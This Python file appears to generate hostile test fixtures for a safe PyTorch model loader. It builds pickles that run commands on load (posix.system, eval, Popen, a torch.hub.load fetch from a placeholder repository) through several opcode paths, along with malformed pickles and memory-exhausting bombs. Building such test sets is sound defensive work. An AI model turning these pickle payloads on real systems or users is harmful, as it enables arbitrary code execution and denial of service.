# SPDX-License-Identifier: Apache-2.0
"""Pickles that call something, are malformed, or exhaust whoever reads them."""

import builtins
import dataclasses
import pickle
import posix
import struct
import subprocess

import torch

from hostile.good import Bad, archive, pickled

PWN = "touch PWNED"


@dataclasses.dataclass
class Call:
    """Pickles as the call of a function."""

    function: object
    arguments: tuple

    def __reduce__(self):
        return self.function, self.arguments


PROTO_2 = pickle.PROTO + b"\x02"
PROTO_4 = pickle.PROTO + b"\x04"


def short_string(text):
    return pickle.SHORT_BINUNICODE + bytes([len(text)]) + text.encode()


def global_name(module, name):
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def pickles():
    yield from calls()
    yield from malformed_pickles()
    yield from exhausting_pickles()


def calls():
    def call(function, *arguments):
        return archive(pickled({"lstm.weight_ih_l0": Call(function, arguments)}))

    def raw(*opcodes):
        return archive(b"".join(opcodes) + pickle.STOP)

    system = call(posix.system, PWN)
    yield Bad("call-os-system.pt", "REDUCE of posix.system.", "posix.system", system)
    evaluated = call(builtins.eval, f"__import__('os').system('{PWN}')")
    yield Bad("call-eval.pt", "REDUCE of builtins.eval.", "builtins.eval", evaluated)
    popen = call(subprocess.Popen, PWN.split())
    yield Bad("call-popen.pt", "REDUCE of subprocess.Popen.", "subprocess.Popen", popen)
    hub = call(torch.hub.load, "someone/something", "model")
    yield Bad("call-torch-hub.pt", "REDUCE of a function of torch.", "torch.hub.load", hub)

    argument = short_string(PWN)
    inst = raw(PROTO_4, pickle.MARK, argument, pickle.INST, b"posix\nsystem\n")
    yield Bad("call-inst.pt", "posix.system by the opcode INST.", "posix.system", inst)
    function = global_name("posix", "system")
    obj = raw(PROTO_4, pickle.MARK, function, argument, pickle.OBJ)
    yield Bad("call-obj.pt", "posix.system by the opcode OBJ.", "posix.system", obj)
    new = raw(PROTO_4, function, argument, pickle.TUPLE1, pickle.NEWOBJ)
    yield Bad("call-newobj.pt", "posix.system by the opcode NEWOBJ.", "posix.system", new)
    keywords = pickle.EMPTY_DICT + pickle.NEWOBJ_EX
    new_ex = raw(PROTO_4, function, argument, pickle.TUPLE1, keywords)
    yield Bad("call-newobj-ex.pt", "posix.system by NEWOBJ_EX.", "posix.system", new_ex)
    by_stack = short_string("posix") + short_string("system") + pickle.STACK_GLOBAL
    stacked = raw(PROTO_4, by_stack, argument, pickle.TUPLE1, pickle.REDUCE)
    yield Bad("call-stack-global.pt", "posix.system by STACK_GLOBAL.", "posix.system", stacked)
    only_named = raw(PROTO_2, function)
    yield Bad("global-unused.pt", "posix.system named, not called.", "posix.system", only_named)


def malformed_pickles():
    missing_memo = pickle.BINGET + b"\x05"
    cases = {
        "pickle-empty": ("An empty data.pkl.", b""),
        "pickle-no-stop": ("No STOP at the end.", PROTO_2 + pickle.EMPTY_DICT),
        "pickle-underflow": ("REDUCE on an empty stack.", PROTO_2 + pickle.REDUCE + pickle.STOP),
        "pickle-no-mark": ("TUPLE without a MARK.", PROTO_2 + pickle.TUPLE + pickle.STOP),
        "pickle-unknown-opcode": ("An opcode that is none.", PROTO_2 + b"\xff" + pickle.STOP),
        "pickle-protocol": ("Protocol 99.", pickle.PROTO + b"\x63" + pickle.STOP),
        "pickle-memo-missing": ("A memo never filled.", PROTO_2 + missing_memo + pickle.STOP),
        "pickle-extension": ("An extension code.", PROTO_2 + pickle.EXT1 + b"\x07" + pickle.STOP),
        "pickle-persistent-id": (
            "A persistent id that is no storage.",
            PROTO_2 + pickle.PERSID + b"weights\n" + pickle.STOP,
        ),
    }
    for name, (about, data_pkl) in cases.items():
        yield Bad(name + ".pt", about, "data.pkl", archive(data_pkl))
    rebuilt = archive(pickled({"fc.weight": Call(torch._utils._rebuild_tensor_v2, ("weights",))}))
    yield Bad("pickle-rebuild-arguments.pt", "A tensor of text.", "fc.weight without", rebuilt)


def exhausting_pickles():
    def bomb(name, about, *opcodes, expect="data.pkl"):
        return Bad(name + ".pt", about, expect, archive(b"".join(opcodes)))

    def length(form, value):
        return struct.pack(form, value)

    stop = b"abc" + pickle.STOP
    terabyte = length("<Q", 1 << 40)
    yield bomb(
        "bomb-long4", "An integer of 2 GB.", PROTO_2, pickle.LONG4, length("<i", 2**31 - 1), stop
    )
    yield bomb(
        "bomb-long4-negative",
        "An integer of -1 bytes.",
        PROTO_2,
        pickle.LONG4,
        length("<i", -1),
        stop,
    )
    yield bomb(
        "bomb-string",
        "A string of 4 GB.",
        PROTO_2,
        pickle.BINUNICODE,
        length("<I", 2**32 - 1),
        stop,
    )
    yield bomb(
        "bomb-string8", "A string of 2^40 bytes.", PROTO_4, pickle.BINUNICODE8, terabyte, stop
    )
    yield bomb("bomb-bytes8", "2^40 bytes.", PROTO_4, pickle.BINBYTES8, terabyte, stop)
    yield bomb(
        "bomb-bytearray8",
        "A bytearray of 2^62 bytes.",
        *(pickle.PROTO, b"\x05", pickle.BYTEARRAY8, length("<Q", 1 << 62), stop),
    )
    yield bomb("bomb-frame", "A frame of 2^40 bytes.", PROTO_4, pickle.FRAME, terabyte, stop)
    one_at = pickle.BININT1 + b"\x01" + pickle.LONG_BINPUT + b"\xff\xff\xff\xff"
    yield bomb("bomb-memo", "Memo index 2^32-1.", PROTO_2, one_at, pickle.STOP, expect="tensor")

    depth = 50_000
    tuples = pickle.EMPTY_TUPLE + pickle.TUPLE1 * depth
    yield bomb(
        "deep-tuples", "50 000 nested tuples.", PROTO_2, tuples, pickle.STOP, expect="nested"
    )
    depth = 15_000
    lists = pickle.EMPTY_LIST * depth + pickle.APPEND * (depth - 1)
    yield bomb("deep-lists", "15 000 nested lists.", PROTO_2, lists, pickle.STOP, expect="nested")
    depth = 5_000
    dicts = (pickle.EMPTY_DICT + pickle.NONE) * depth + pickle.EMPTY_DICT + pickle.SETITEM * depth
    yield bomb("deep-dicts", "5 000 nested dicts.", PROTO_2, dicts, pickle.STOP, expect="nested")

    laughs = ["ha"]
    for _ in range(60):
        laughs = [laughs, laughs]
    yield bomb("laughs-lists", "2^60 elements by sharing.", pickled(laughs), expect="tensor")
    laughs = {"ha": 1}
    for _ in range(60):
        laughs = {"a": laughs, "b": laughs}
    yield bomb("laughs-dicts", "2^60 keys by sharing.", pickled(laughs), expect="tensor")
    itself = {}
    itself["state_dict"] = itself
    yield bomb("cyclic-dict", "A dict that contains itself.", pickled(itself), expect="tensor")
